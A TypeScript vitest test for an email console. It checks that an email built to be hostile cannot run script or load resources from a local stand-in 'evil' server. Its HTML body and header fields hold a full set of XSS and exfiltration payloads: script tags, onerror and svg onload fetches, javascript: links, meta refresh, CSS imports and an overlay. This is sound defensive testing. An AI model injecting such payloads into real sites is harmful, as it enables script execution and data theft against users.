import { createServer } from 'node:http';
import { listen } from '@email-automation/test-tools/listen';
import { expect, onTestFinished, test } from 'vitest';
import { startConsole } from '../environment/console.ts';
import { addToOutbox } from '../environment/outbox.ts';

test('a hostile email does nothing, and loads nothing', async () => {
  const asked: string[] = [];
  const evil = createServer(({ url = '' }, response) => {
    asked.push(url);
    response.end();
  });
  const { url: from, close } = await listen(evil);
  onTestFinished(close);
  const html = `<base href="${from}/"><meta http-equiv="refresh" content="0;url=${from}/refresh">
    <script>top.document.title = 'taken'; fetch('${from}/script')</script><script src="${from}/remote.js"></script>
    <img src="${from}/pixel.png" onerror="fetch('${from}/onerror')"><link rel="stylesheet" href="${from}/style.css">
    <style>@import "${from}/import.css"; body { background: url(${from}/background.png) }
      .cover { position: fixed; inset: 0; background: red; z-index: 99999 }</style><div class="cover">cover</div>
    <iframe src="${from}/frame"></iframe><object data="${from}/object"></object><video src="${from}/video" autoplay></video>
    <form action="${from}/form" method="post"><input name="q" autofocus><button id="send">Send</button></form>
    <a id="script" href="javascript:fetch('${from}/javascript')">Click</a><svg onload="fetch('${from}/svg')"></svg>`;
  const sandbox = await startConsole();
  const hostile = `"><script>document.title='taken'</script><img src=${from}/subject.png>`;
  await addToOutbox(sandbox.database, {
    message_id: 'hostile@example.com',
    subscriber_id: '"><script>alert(1)</script>',
    ...{ from_name: hostile, from_email: hostile, to_email: hostile, bcc: hostile, subject: hostile },
    html_body: html,
    text_body: `${hostile} javascript:alert(1)`,
    created_at: '2999-03-02T09:00:00Z',
  });
  const page = await sandbox.open('/console/emails/hostile%40example.com', { javaScriptEnabled: true });
  const frame = page.frames().find((one) => one.url().endsWith('/html'));
  expect(await frame?.locator('.cover').textContent()).toBe('cover');
  // Force: a cover is over it.
  await frame?.locator('#send').click({ force: true });
  await frame?.locator('#script').click({ force: true });
  await page.waitForTimeout(500);
  for (const view of ['text', 'source'])
    await page.goto(`${sandbox.controlUrl}/console/emails/hostile%40example.com?view=${view}`);
  expect(await page.title()).toContain('<script>');
  await page.goto(`${sandbox.controlUrl}/console/emails`);
  expect(await page.locator('nav.side').isVisible()).toBe(true);
  expect(asked).toEqual([]);
});
